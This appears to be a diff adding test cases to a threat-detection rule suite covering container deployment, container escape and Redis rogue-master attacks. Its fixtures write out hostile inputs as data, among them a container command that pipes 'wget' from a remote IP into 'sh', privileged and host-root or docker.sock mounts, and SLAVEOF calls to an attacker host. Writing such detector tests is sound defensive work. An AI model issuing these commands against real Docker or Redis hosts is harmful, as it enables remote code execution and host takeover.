@@ -5,6 +5,17 @@ import { TECHNIQUE_RULES } from '../../src/intel/rules/techniques.ts'
 import type { IntelEvent } from '../../src/intel/types.ts'
 import { event, httpRequest, shellCommand } from './events.ts'
 
+const dockerCreate = (fields: Record<string, unknown>) =>
+  event('request', 'docker_api', {
+    method: 'POST',
+    path: '/containers/create',
+    action: 'container_create',
+    image: 'alpine',
+    cmd: 'null',
+    binds: 'null',
+    privileged: false,
+    ...fields,
+  })
 const redis = (cmd: string, args: string[]) => event('command', 'redis', { cmd, args: JSON.stringify(args) })
 
 /** Per rule: events it must tag and near-misses it must not. */
@@ -197,6 +208,25 @@ const CASES: Record<string, { match: IntelEvent[]; miss: IntelEvent[] }> = {
       event('upload', 'ssh', { via: 'scp', name: 'cpuminer', filename: 'cpuminer', bytes: 5 }),
     ],
     miss: [event('download', 'ssh', { url: 'http://10.0.0.9/a', filename: 'backup.tar' })],
+  },
+  'technique.container.deploy': {
+    match: [dockerCreate({ image: 'alpine', cmd: '["sh","-c","wget http://198.51.100.4/x|sh"]' })],
+    miss: [event('request', 'docker_api', { method: 'GET', path: '/version', action: null })],
+  },
+  'technique.container.escape-privileged': {
+    match: [dockerCreate({ image: 'alpine', privileged: true })],
+    miss: [dockerCreate({ image: 'alpine', privileged: false })],
+  },
+  'technique.container.escape-host-mount': {
+    match: [
+      dockerCreate({ binds: '["/:/mnt"]' }),
+      dockerCreate({ binds: '["/var/run/docker.sock:/var/run/docker.sock"]' }),
+    ],
+    miss: [dockerCreate({ binds: '["/srv/data:/data"]' }), dockerCreate({ binds: 'null' })],
+  },
+  'technique.ingress.redis-rogue-master': {
+    match: [redis('SLAVEOF', ['198.51.100.4', '21000']), redis('REPLICAOF', ['evil.example.top', '6379'])],
+    miss: [redis('SLAVEOF', ['NO', 'ONE']), redis('INFO', ['replication'])],
   },
   'technique.scanning.probe': {
     match: [event('scan', 'http', { reason: 'malformed_http', error: 'bad_request_line' })],
